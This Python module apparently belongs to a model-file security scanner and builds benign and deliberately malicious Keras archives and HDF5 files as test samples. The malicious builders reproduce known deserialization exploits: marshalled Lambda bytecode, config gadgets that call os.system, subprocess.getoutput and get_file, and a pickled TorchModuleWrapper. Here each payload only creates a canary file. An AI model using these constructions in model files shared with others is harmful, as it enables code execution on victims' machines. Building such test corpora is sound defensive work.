"""Keras samples: ``.keras`` archives and legacy HDF5 models, written by hand.

Configs follow what Keras 3 writes (``model.save``), so the benign ones load
under real Keras; the malicious ones differ by exactly the object an attack
needs.  Weights files are written with h5py, in Keras' own group layout.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import types
import zipfile
from pathlib import Path
from typing import Any

from trainguard.samples.base import Reduce, benign, malicious, py_touch, sh_touch
from trainguard.samples.loaders import LOADER_REQUIRES, LOADERS

_KERAS_LOAD = """
import os, sys
os.environ.setdefault("KERAS_BACKEND", "torch")
import keras
keras.saving.load_model(sys.argv[1]{extra})
"""
# How victims load Keras files: the default (safe_mode=True), and safe_mode off,
# which tutorials recommend for models with Lambda layers.
LOADERS.setdefault("keras", _KERAS_LOAD.format(extra=""))
LOADERS.setdefault("keras-unsafe", _KERAS_LOAD.format(extra=", safe_mode=False"))
LOADER_REQUIRES.setdefault("keras", ("keras", "h5py"))
LOADER_REQUIRES.setdefault("keras-unsafe", ("keras", "h5py"))

_KERAS_VERSION = "3.15.1"
JSON = dict[str, Any]


# -- config pieces, as Keras 3 writes them --------------------------------------------


def _obj(module: str | None, class_name: str, config: object, **extra: object) -> JSON:
    return {
        "module": module,
        "class_name": class_name,
        "config": config,
        "registered_name": None,
        **extra,
    }


def _dtype() -> JSON:
    return _obj("keras", "DTypePolicy", {"name": "float32"})


def _input(name: str, shape: list[int | None]) -> JSON:
    cfg = {
        "batch_shape": shape,
        "dtype": "float32",
        "sparse": False,
        "ragged": False,
        "name": name,
        "optional": False,
    }
    return _obj("keras.layers", "InputLayer", cfg)


def _dense(name: str, units: int, activation: object, fan_in: int) -> JSON:
    cfg = {
        "name": name,
        "trainable": True,
        "dtype": _dtype(),
        "units": units,
        "activation": activation,
        "use_bias": True,
        "kernel_initializer": _obj("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": _obj("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None,
        "bias_regularizer": None,
        "kernel_constraint": None,
        "bias_constraint": None,
    }
    return _obj("keras.layers", "Dense", cfg, build_config={"input_shape": [None, fan_in]})


def _sequential(name: str, layers: list[JSON], input_shape: list[int | None]) -> JSON:
    cfg = {"name": name, "trainable": True, "dtype": _dtype(), "layers": layers}
    return _obj("keras", "Sequential", cfg, build_config={"input_shape": input_shape})


def _tensor(shape: list[int | None], source: str) -> JSON:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": shape, "dtype": "float32", "keras_history": [source, 0, 0]},
    }


def _call(layer: JSON, name: str, *args: object, **kwargs: object) -> JSON:
    """A layer of a Functional model, called on ``args`` (tensors or plain values)."""
    return {**layer, "name": name, "inbound_nodes": [{"args": list(args), "kwargs": kwargs}]}


def _functional(name: str, layers: list[JSON], inputs: str, outputs: str) -> JSON:
    cfg = {
        "name": name,
        "trainable": True,
        "layers": layers,
        "input_layers": [inputs, 0, 0],
        "output_layers": [outputs, 0, 0],
    }
    return _obj("keras.src.models.functional", "Functional", cfg)


def marshalled_lambda(source: str) -> str:
    """Keras' func_dump of ``lambda x: ...``: base64 of the marshalled code object."""
    module = compile(source, "<sample>", "eval")
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


def _touch_lambda(canary: Path) -> str:
    return marshalled_lambda(f"lambda x: ({py_touch(canary)}, x)[1]")


# -- files -------------------------------------------------------------------------------


def _weights_h5(layers: dict[str, list[Any]], model_name: str) -> bytes:
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as h5:
        group = h5.create_group("layers")
        for name, values in layers.items():
            variables = group.create_group(f"{name}/vars")
            variables.attrs["name"] = name
            for i, value in enumerate(values):
                variables.create_dataset(str(i), data=np.asarray(value, dtype="float32"))
        h5.create_group("vars").attrs["name"] = model_name
    return buf.getvalue()


def write_keras(path: Path, config: JSON, weights: bytes) -> Path:
    """A ``.keras`` archive laid out as ``model.save`` lays it out (stored members)."""
    metadata = {"keras_version": _KERAS_VERSION, "date_saved": "2025-01-01@00:00:00"}
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps(metadata))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights)
    return path


def _mlp_config(name: str) -> JSON:
    return _sequential(
        name,
        [
            _input("input_layer", [None, 4]),
            _dense("dense", 3, "relu", 4),
            _dense("dense_1", 1, "linear", 3),
        ],
        [None, 4],
    )


def _mlp_weights() -> dict[str, list[Any]]:
    return {
        "dense": [[[0.1, 0.2, 0.3]] * 4, [0.0, 0.0, 0.0]],
        "dense_1": [[[0.5], [0.5], [0.5]], [0.0]],
    }


# -- benign --------------------------------------------------------------------------


@benign(
    "keras-sequential-dense",
    "Keras 3 Sequential model of Dense layers",
    "the .keras layout Keras writes; only Keras' own layers and initializers",
    loader="keras",
    requires=("h5py",),
)
def build_keras_dense(out: Path, canary: Path) -> Path:
    weights = _weights_h5(_mlp_weights(), "sequential")
    return write_keras(out / "keras_dense.keras", _mlp_config("sequential"), weights)


@benign(
    "keras-functional-conv",
    "Keras 3 Functional model: Conv2D, Flatten, Dense",
    "a Functional config (keras.src.models.functional) with inbound nodes",
    loader="keras",
    requires=("h5py",),
)
def build_keras_conv(out: Path, canary: Path) -> Path:
    conv = _obj(
        "keras.layers",
        "Conv2D",
        {
            "name": "conv2d",
            "trainable": True,
            "dtype": _dtype(),
            "filters": 2,
            "kernel_size": [3, 3],
            "strides": [1, 1],
            "padding": "valid",
            "data_format": "channels_last",
            "dilation_rate": [1, 1],
            "groups": 1,
            "activation": "linear",
            "use_bias": True,
            "kernel_initializer": _obj("keras.initializers", "GlorotUniform", {"seed": None}),
            "bias_initializer": _obj("keras.initializers", "Zeros", {}),
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "activity_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
        build_config={"input_shape": [None, 8, 8, 1]},
    )
    flatten = _obj(
        "keras.layers",
        "Flatten",
        {"name": "flatten", "trainable": True, "dtype": _dtype(), "data_format": "channels_last"},
        build_config={"input_shape": [None, 6, 6, 2]},
    )
    layers = [
        {**_input("input_layer", [None, 8, 8, 1]), "name": "input_layer", "inbound_nodes": []},
        _call(conv, "conv2d", _tensor([None, 8, 8, 1], "input_layer")),
        _call(flatten, "flatten", _tensor([None, 6, 6, 2], "conv2d")),
        _call(_dense("dense", 2, "softmax", 72), "dense", _tensor([None, 72], "flatten")),
    ]
    weights = _weights_h5(
        {
            "conv2d": [[[[[0.1, -0.1]]] * 3] * 3, [0.0, 0.0]],
            "dense": [[[0.01, -0.01]] * 72, [0.0, 0.0]],
        },
        "functional",
    )
    config = _functional("functional", layers, "input_layer", "dense")
    return write_keras(out / "keras_conv.keras", config, weights)


# -- malicious -------------------------------------------------------------------------


@malicious(
    "keras-lambda-bytecode",
    "Keras Lambda layer whose marshalled bytecode creates a file",
    "Lambda layers store their function as marshalled bytecode (func_dump); it runs "
    "as soon as the model is built while loading, once safe_mode is off",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
    loader="keras-unsafe",
    requires=("h5py",),
)
def build_keras_lambda(out: Path, canary: Path) -> Path:
    function = {
        "class_name": "__lambda__",
        "config": {"code": _touch_lambda(canary), "defaults": None, "closure": None},
    }
    lam = _obj(
        "keras.layers",
        "Lambda",
        {
            "name": "lambda",
            "trainable": True,
            "dtype": _dtype(),
            "function": function,
            "arguments": {},
        },
        build_config={"input_shape": [None, 4]},
    )
    config = _sequential("sequential", [_input("input_layer", [None, 4]), lam], [None, 4])
    weights = _weights_h5({"lambda": []}, "sequential")
    return write_keras(out / "keras_lambda.keras", config, weights)


@malicious(
    "keras-module-os-system",
    "Keras config that calls os.system through a Functional 'layer' (safe_mode bypass)",
    "Keras 3.0-3.8 imports any module a config names and calls the object with the "
    "inbound node's arguments, even with safe_mode=True; Keras >= 3.9 refuses it",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2025-1550",
    loader="keras",
    fires=False,
    requires=("h5py",),
)
def build_keras_module_gadget(out: Path, canary: Path) -> Path:
    gadget = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "function",
    }
    layers = [
        {**_input("input_layer", [None, 4]), "name": "input_layer", "inbound_nodes": []},
        _call(gadget, "payload", sh_touch(canary)),
        _call(_dense("dense", 1, "linear", 4), "dense", _tensor([None, 4], "input_layer")),
    ]
    weights = _weights_h5({"dense": [[[0.5]] * 4, [0.0]]}, "functional")
    config = _functional("functional", layers, "input_layer", "dense")
    return write_keras(out / "keras_module_gadget.keras", config, weights)


@malicious(
    "keras-get-file-gadget",
    "Keras config that calls keras.utils.get_file to write a file",
    "a Keras utility reached through a config bypassed the CVE-2025-1550 fix: get_file "
    "copies a URL (here file://, the model itself) to a path the attacker chooses",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2025-8747",
    loader="keras",
    fires=False,
    requires=("h5py",),
)
def build_keras_get_file(out: Path, canary: Path) -> Path:
    path = out / "keras_get_file.keras"
    gadget = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "get_file",
    }
    layers = [
        {**_input("input_layer", [None, 4]), "name": "input_layer", "inbound_nodes": []},
        _call(gadget, "payload", fname=str(canary), origin=path.resolve().as_uri()),
        _call(_dense("dense", 1, "linear", 4), "dense", _tensor([None, 4], "input_layer")),
    ]
    weights = _weights_h5({"dense": [[[0.5]] * 4, [0.0]]}, "functional")
    return write_keras(path, _functional("functional", layers, "input_layer", "dense"), weights)


@malicious(
    "keras-tfsmlayer",
    "Keras config with a TFSMLayer pointing at a SavedModel outside the archive",
    "TFSMLayer loads and runs the TensorFlow graph at a path the config chooses",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2026-1462",
    loader="keras",
    fires=False,
    expect="high",
    requires=("h5py",),
)
def build_keras_tfsm(out: Path, canary: Path) -> Path:
    layer = _obj(
        "keras.layers",
        "TFSMLayer",
        {
            "name": "tfsm",
            "trainable": False,
            "filepath": "../shared/exported_model",
            "call_endpoint": "serve",
        },
    )
    config = _sequential("sequential", [_input("input_layer", [None, 4]), layer], [None, 4])
    return write_keras(out / "keras_tfsm.keras", config, _weights_h5({}, "sequential"))


@malicious(
    "keras-torch-module-pickle",
    "Keras TorchModuleWrapper carrying a pickled module that runs os.system",
    "TorchModuleWrapper's config holds a base64 torch.save of a module, unpickled with "
    "weights_only=False when safe_mode is off",
    loader="keras-unsafe",
    requires=("h5py", "torch"),
)
def build_keras_torch_wrapper(out: Path, canary: Path) -> Path:
    import torch

    buf = io.BytesIO()
    torch.save(Reduce(os.system, sh_touch(canary)), buf)
    layer = _obj(
        "keras.layers",
        "TorchModuleWrapper",
        {
            "name": "torch_module_wrapper",
            "trainable": True,
            "dtype": _dtype(),
            "module": base64.b64encode(buf.getvalue()).decode("ascii"),
        },
    )
    config = _sequential("sequential", [_input("input_layer", [None, 4]), layer], [None, 4])
    return write_keras(out / "keras_torch_wrapper.keras", config, _weights_h5({}, "sequential"))


# -- legacy HDF5 ---------------------------------------------------------------------


def write_legacy_h5(path: Path, model_config: JSON, layer_weights: dict[str, list[Any]]) -> Path:
    """A Keras 2 style ``.h5``: model_config JSON at the root, weights in model_weights."""
    import h5py
    import numpy as np

    with h5py.File(path, "w") as h5:
        h5.attrs["keras_version"] = _KERAS_VERSION
        h5.attrs["backend"] = "torch"
        h5.attrs["model_config"] = json.dumps(model_config)
        group = h5.create_group("model_weights")
        names = [layer["config"]["name"] for layer in model_config["config"]["layers"]]
        group.attrs["layer_names"] = [n.encode("utf-8") for n in names]
        for name in names:
            g = group.create_group(name)
            values = layer_weights.get(name, [])
            g.attrs["weight_names"] = [f"{name}/{i}".encode() for i in range(len(values))]
            for i, value in enumerate(values):
                g.create_dataset(f"{name}/{i}", data=np.asarray(value, dtype="float32"))
    return path


def _legacy(layers: list[JSON]) -> JSON:
    """Keras 2 configs carry no "module" keys: names resolve among Keras' own objects."""
    plain = [{k: v for k, v in layer.items() if k != "module"} for layer in layers]
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": plain}}


@benign(
    "keras-h5-dense",
    "Legacy Keras HDF5 model of Dense layers",
    "model_config attribute in the root of an .h5 file",
    loader="keras",
    requires=("h5py",),
)
def build_keras_h5_dense(out: Path, canary: Path) -> Path:
    config = _legacy(_mlp_config("sequential")["config"]["layers"])
    return write_legacy_h5(out / "keras_dense.h5", config, _mlp_weights())


@malicious(
    "keras-h5-lambda",
    "Legacy Keras HDF5 model with a Lambda layer in its model_config attribute",
    "the Keras 2 form of a Lambda: [marshalled code, defaults, closure]",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
    loader="keras-unsafe",
    requires=("h5py",),
)
def build_keras_h5_lambda(out: Path, canary: Path) -> Path:
    lam = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": _touch_lambda(canary), "defaults": None, "closure": None},
            },
            "arguments": {},
        },
    }
    config = _legacy([_input("input_layer", [None, 4]), lam])
    return write_legacy_h5(out / "keras_lambda.h5", config, {})


@malicious(
    "keras-h5-module-reference",
    "Legacy Keras HDF5 model whose config names a function in the subprocess module",
    "the model_config of an .h5 file is deserialized like config.json",
    advisory="https://nvd.nist.gov/vuln/detail/CVE-2025-1550",
    loader="keras",
    fires=False,
    requires=("h5py",),
)
def build_keras_h5_module(out: Path, canary: Path) -> Path:
    dense = _dense("dense", 1, None, 4)
    dense["config"]["activation"] = {
        "module": "subprocess",
        "class_name": "function",
        "config": "getoutput",
        "registered_name": "function",
    }
    config = {
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [_input("input_layer", [None, 4]), dense]},
    }
    return write_legacy_h5(out / "keras_module_ref.h5", config, {"dense": [[[0.5]] * 4, [0.0]]})
